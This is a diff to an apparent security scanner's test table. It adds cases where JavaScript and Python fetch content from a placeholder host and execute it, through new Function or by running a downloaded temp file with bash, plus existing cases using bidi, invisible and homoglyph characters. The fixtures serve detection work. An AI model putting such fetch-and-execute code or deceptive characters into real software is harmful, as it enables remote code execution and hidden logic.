@@ -236,6 +236,34 @@ const rows: readonly Row[] = [
       "a.js": `const t = [${numbers}], p = [${Array.from({ length: 64 }, (_, at) => (at * 37) % 64).join()}]\nf = (i) => new Function("x", "return x * " + t[i] + " - " + (t[i] - 1) + String.fromCharCode(p[i]))\n`,
     },
   },
+  ...(
+    [
+      ["a.js", (of) => `require("axios").get("https://a.example.org/x").catch((e) => { ${of("e.response.data")} })\n`],
+      ["a.js", (of) => `try { await require("axios").get("https://a.example.org/x") } catch ({ response }) { ${of("response.data")} }\n`],
+    ] satisfies [string, (of: (what: string) => string) => string][]
+  ).map(
+    ([path, text]): Row => ({
+      rule: "flow/fetched-runs", // what an error carries of the answer
+      fires: { [path]: text((what) => `new Function(${what})()`) },
+      silent: { [path]: text((what) => `console.log(${what}); eval("1")`) },
+    }),
+  ),
+  ...(
+    [
+      ["with tempfile.NamedTemporaryFile() as f:\n    f.write(a)\n    f.flush()\n", "f.name"],
+      ["fd, path = tempfile.mkstemp()\nos.write(fd, a)\n", "path"],
+    ] satisfies [string, string][]
+  ).map(
+    ([writes, name]): Row => ({
+      rule: "flow/fetched-runs", // through a file that nobody else names
+      fires: {
+        "a.py": `import os, requests, tempfile\na = requests.get("https://a.example.org/x").content\n${writes}os.system("bash " + ${name})\n`,
+      },
+      silent: {
+        "a.py": `import os, requests, tempfile\na = requests.get("https://a.example.org/x").content\n${writes}os.system("wc " + ${name})\n`,
+      },
+    }),
+  ),
   { rule: "text/bidi", fires: { "a.js": "if (a /*\u202e*/) b()\n" }, silent: { "a.js": 'if (a) b("\\u202e")\n' } },
   { rule: "text/invisible", fires: { "a.js": `x("${"\ufe01\ufe02".repeat(5)}")\n` }, silent: { "a.js": 'x("\u2764\ufe0f")\n' } },
   { rule: "text/homoglyph", fires: { "a.js": "allow()\n\u0430llow()\n" }, silent: { "a.js": 'allow()\nsay("\u0430llow")\n' } },
